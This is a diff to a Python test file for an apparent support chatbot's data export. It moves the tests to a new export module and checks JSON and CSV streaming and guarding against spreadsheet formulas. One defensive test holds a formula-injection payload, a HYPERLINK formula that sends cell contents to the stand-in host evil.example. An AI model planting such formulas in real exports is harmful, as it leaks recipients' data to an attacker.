@@ -16,6 +16,7 @@ from sqlalchemy import event, select, update
 
 from bot import constants as c
 from bot.cli.main import main
+from bot.report import export as written
 from bot.store import alerts, db, export, records, workspace
 from bot.store.db import session_scope
 from bot.store.models import AuditEvent, Conversation, Mark
@@ -102,7 +103,7 @@ def test_v3_record_has_every_mark_without_words_oldest_first(store: str) -> None
         {"at": "2026-05-01T09:02:00Z", "tier": c.MARK_REVIEW, "kind": "neglect_now", "reader_version": "readers-7"},
     ]
     assert found["conv-2"]["marks"] == []
-    text = "".join(export.stream_json())
+    text = "".join(written.stream_json())
     assert "rule hitting_now" not in text and "reader p" not in text and "m-1" not in text
 
 
@@ -173,16 +174,16 @@ def test_json_stream_is_one_valid_array_like_one_big_dump(store: str) -> None:
     _enquiries(7)
     whole = list(export.iter_records())
     for batch in (2, 500):
-        text = "".join(export.stream_json(batch=batch))
+        text = "".join(written.stream_json(batch=batch))
         assert text == json.dumps(whole, indent=2, ensure_ascii=False) + "\n"
         assert json.loads(text) == whole
-    assert "".join(export.stream_json(enquiry_ref="none")) == "[]\n"
+    assert "".join(written.stream_json(enquiry_ref="none")) == "[]\n"
 
 
 def test_json_stream_comes_in_chunks(store: str, monkeypatch: pytest.MonkeyPatch) -> None:
     _enquiries(5)
-    monkeypatch.setattr(export, "CHUNK_CHARS", 100)
-    chunks = list(export.stream_json(batch=2))
+    monkeypatch.setattr(written, "CHUNK_CHARS", 100)
+    chunks = list(written.stream_json(batch=2))
     assert len(chunks) > 5
     assert json.loads("".join(chunks)) == list(export.iter_records())
 
@@ -195,14 +196,14 @@ def test_json_stream_comes_in_chunks(store: str, monkeypatch: pytest.MonkeyPatch
 def test_quick_encoder_writes_what_json_writes(value: Any) -> None:
     for indent in ("", "  "):
         expected = json.dumps({"k": [value]}, indent=2, ensure_ascii=False).replace("\n", "\n" + indent)
-        assert export._json({"k": [value]}, indent) == expected
+        assert written._json({"k": [value]}, indent) == expected
 
 
 def test_csv_stream_one_row_per_wish_with_the_new_answers(store: str) -> None:
     _enquiries(4)
     for batch in (1, 500):
-        rows = list(csv.DictReader(io.StringIO("".join(export.stream_csv(batch=batch)))))
-        assert list(rows[0]) == export.CSV_FIELDS
+        rows = list(csv.DictReader(io.StringIO("".join(written.stream_csv(batch=batch)))))
+        assert list(rows[0]) == written.CSV_FIELDS
         # conv-00 1 wish, conv-01 2, conv-02 1, conv-03 2; reviews rev-01, rev-03 none (one row each)
         assert len(rows) == 1 + 2 + 1 + 2 + 2
         by_id: Dict[str, List[Dict[str, str]]] = {}
@@ -214,7 +215,7 @@ def test_csv_stream_one_row_per_wish_with_the_new_answers(store: str) -> None:
         assert by_id["conv-01"][0]["answer_feels_safe_now"] == c.NO
         assert by_id["rev-01"][0]["outcome_code"] == "" and by_id["rev-01"][0]["feedback_goals_met"] == c.PARTLY
         # every v1 column is still there, in its old place
-        assert export.CSV_FIELDS[:26] == [
+        assert written.CSV_FIELDS[:26] == [
             "conversation_id", "enquiry_ref", "stage", "status", "speaker_role", "asked_about_outcomes",
             "confirmed", "started_at", "updated_at", "flag_urgent_safety", "flag_advocacy_requested",
             "flag_wants_human_contact", "feedback_goals_met", "feedback_chance_to_say", "feedback_listened_to",
@@ -247,13 +248,13 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote_and_json_keep
     records.start_conversation("rev-1", R, "NR-2026-0042", c.ROLE_PERSON)
     link = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
     records.save_answer("rev-1", R, "comments", link)
-    text = "".join(export.stream_csv())
+    text = "".join(written.stream_csv())
     rows = {(r["conversation_id"], r["outcome_code"]): r for r in csv.DictReader(io.StringIO(text))}
     assert rows[("conv-1", c.FEEL_SAFER)]["outcome_own_words"] == "'@SUM(1) i want peace"
     assert rows[("conv-1", c.POLICE_PROSECUTE)]["outcome_own_words"] == "'- him gone"
     assert rows[("rev-1", "")]["feedback_comments"] == "'" + link
     assert rows[("conv-1", c.FEEL_SAFER)]["enquiry_ref"] == "NR-2026-0042", "other cells are as they were"
-    by_id = {r["conversation_id"]: r for r in json.loads("".join(export.stream_json()))}
+    by_id = {r["conversation_id"]: r for r in json.loads("".join(written.stream_json()))}
     assert by_id["rev-1"]["feedback"]["comments"] == link
     assert [o["own_words"] for o in by_id["conv-1"]["outcomes"]] == ["@SUM(1) i want peace", "- him gone"]
 
@@ -262,16 +263,16 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote_and_json_keep
 def test_every_csv_column_is_guarded_against_formulas(start: str) -> None:
     """Whatever column a value lands in (the guard is in the writer, not in a list of columns)."""
     cell = f"{start}1+1"
-    row = {name: cell for name in export._RECORD_FIELDS}
+    row = {name: cell for name in written._RECORD_FIELDS}
     record = {**row, "flags": {f: cell for f in c.FLAGS},
               "feedback": {q: cell for q in (*c.FEEDBACK_QUESTIONS, "comments")},
               "answers": {a: cell for a in export.ANSWER_FIELDS},
               "outcomes": [{"code": cell, "own_words": cell, "may_not_be_achievable": cell, "achieved": cell}]}
-    (written,) = list(csv.DictReader(io.StringIO("".join(export.csv_chunks([record])))))
-    assert set(written) == set(export.CSV_FIELDS)
-    assert all(value == "'" + cell for value in written.values()), written
+    (row_out,) = list(csv.DictReader(io.StringIO("".join(written.csv_chunks([record])))))
+    assert set(row_out) == set(written.CSV_FIELDS)
+    assert all(value == "'" + cell for value in row_out.values()), row_out
 
 
 @pytest.mark.parametrize("value", ["i want peace", "NR-2026-0042", "", "1=1", "a-b", " =not first", 5, None, True])
 def test_ordinary_cells_are_left_as_they_are(value: Any) -> None:
-    assert export.formula_safe(value) == value
+    assert written.formula_safe(value) == value
